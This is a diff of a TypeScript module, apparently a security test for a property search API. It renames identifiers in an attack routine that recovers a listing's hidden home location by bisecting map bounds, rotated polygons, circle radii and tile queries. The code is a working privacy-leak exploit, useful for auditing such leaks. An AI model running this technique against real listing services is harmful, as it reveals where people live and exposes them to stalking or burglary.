@@ -4,17 +4,17 @@
  * itself. Every question is kept, so that it can be put again.
  */
 import { encodePolygons, formatBounds, formatCircle, type Point } from '@estia/contract/search/shape';
-import { readTile } from './search-oracle.ts';
+import { parseTile } from './search-oracle.ts';
 
-export type Question = { method: 'GET' | 'POST'; url: string; payload?: object };
-export type Answer = { statusCode: number; rawPayload: Buffer; json: () => unknown };
-export type Target = { property_id: number; listing_id: number; price: number };
+export type AttackRequest = { method: 'GET' | 'POST'; url: string; payload?: object };
+export type AttackResponse = { statusCode: number; rawPayload: Buffer; json: () => unknown };
+export type AttackTarget = { property_id: number; listing_id: number; price: number };
 
 const METRES_A_DEGREE = 111_320;
 const sorts = ['auto', 'updated_desc', 'updated_asc', 'price_asc', 'price_desc', 'area_asc', 'area_desc'] as const;
 
 /** Metres east and north of a centre ⇄ degrees. */
-function frame([lon, lat]: Point) {
+function localMetres([lon, lat]: Point) {
   const wide = METRES_A_DEGREE * Math.cos((lat * Math.PI) / 180);
   return {
     at: (east: number, north: number): Point => [lon + east / wide, lat + north / METRES_A_DEGREE],
@@ -23,12 +23,12 @@ function frame([lon, lat]: Point) {
 }
 
 /** Where each way of asking says the home is. */
-export type Findings = Record<'views' | 'polygons' | 'circles' | 'tiles', Point>;
+export type LocationGuesses = Record<'views' | 'polygons' | 'circles' | 'tiles', Point>;
 
-export async function attack(
-  target: Target,
-  ask: (question: Question) => Promise<Answer>,
-): Promise<{ findings: Findings; centre: Point }> {
+export async function attackLocation(
+  target: AttackTarget,
+  ask: (question: AttackRequest) => Promise<AttackResponse>,
+): Promise<{ findings: LocationGuesses; centre: Point }> {
   const filter = { for: 'sale', category_id: 1, priceMin: target.price, priceMax: target.price };
   const search = async (more: object, query = '') =>
     (await ask({ method: 'POST', url: `/api/property/search${query}`, payload: { ...filter, ...more } })).json() as {
@@ -43,10 +43,10 @@ export async function attack(
   };
   const { lon, lat } = page.property.location;
   const centre: Point = [lon, lat];
-  const { at } = frame(centre);
+  const { at } = localMetres(centre);
 
   /** The last whole metre at which the question still says yes, between `lo` (yes) and `hi` (no). */
-  async function halve(lo: number, hi: number, says: (middle: number) => Promise<boolean>): Promise<number> {
+  async function bisect(lo: number, hi: number, says: (middle: number) => Promise<boolean>): Promise<number> {
     let [yes, no] = [lo, hi];
     while (Math.abs(no - yes) > 1) {
       const middle = Math.round((yes + no) / 2);
@@ -60,20 +60,20 @@ export async function attack(
     const [[w, s], [e, n]] = [at(west, south), at(east, north)];
     return { view: formatBounds({ west: w, south: s, east: e, north: n }) };
   };
-  const east = await halve(-2_000, 2_000, (x) => isIn(view(x, -2_000, 2_000, 2_000)));
-  const north = await halve(-2_000, 2_000, (y) => isIn(view(-2_000, y, 2_000, 2_000)));
+  const east = await bisect(-2_000, 2_000, (x) => isIn(view(x, -2_000, 2_000, 2_000)));
+  const north = await bisect(-2_000, 2_000, (y) => isIn(view(-2_000, y, 2_000, 2_000)));
 
   // Slanted by 45°: u runs north-east, v north-west.
   const slanted = (u: number, v: number): Point => at((u - v) * Math.SQRT1_2, (u + v) * Math.SQRT1_2);
   const strip = (u1: number, v1: number, u2: number, v2: number) => ({
     shape: encodePolygons([[slanted(u1, v1), slanted(u2, v1), slanted(u2, v2), slanted(u1, v2)]]),
   });
-  const u = await halve(-3_000, 3_000, (x) => isIn(strip(x, -3_000, 3_000, 3_000)));
-  const v = await halve(-3_000, 3_000, (y) => isIn(strip(-3_000, y, 3_000, 3_000)));
+  const u = await bisect(-3_000, 3_000, (x) => isIn(strip(x, -3_000, 3_000, 3_000)));
+  const v = await bisect(-3_000, 3_000, (y) => isIn(strip(-3_000, y, 3_000, 3_000)));
 
   const radiusFrom = ([x, y]: readonly [number, number]) => {
     const [cLon, cLat] = at(x, y);
-    return halve(6_000, 50, (radius) => isIn({ near: formatCircle({ lon: cLon, lat: cLat, radius }) }));
+    return bisect(6_000, 50, (radius) => isIn({ near: formatCircle({ lon: cLon, lat: cLat, radius }) }));
   };
   // Distances to two known points in the west and east give one coordinate, to a third in the south the other.
   const [west, eastward, south] = [
@@ -95,7 +95,7 @@ export async function attack(
     const tx = Math.floor(((tLon + 180) / 360) * scale);
     const ty = Math.floor(((1 - Math.log(Math.tan(phi) + 1 / Math.cos(phi)) / Math.PI) / 2) * scale);
     const answer = await get(`/search/tiles/${z}/${tx}/${ty}?${query}&${everywhere}`);
-    for (const [key, cluster] of readTile(answer.rawPayload)) {
+    for (const [key, cluster] of parseTile(answer.rawPayload)) {
       if (cluster.l !== target.listing_id) continue;
       const [px = 0, py = 0] = key.split(',').map((n) => Number(n) + 0.5);
       const worldX = (tx + px / 4096) / scale;
@@ -135,6 +135,6 @@ export async function attack(
 }
 
 /** Metres between two points that are near each other. */
-export function apart(a: Point, b: Point): number {
-  return Math.hypot(...frame(a).from(b));
+export function distanceMetres(a: Point, b: Point): number {
+  return Math.hypot(...localMetres(a).from(b));
 }
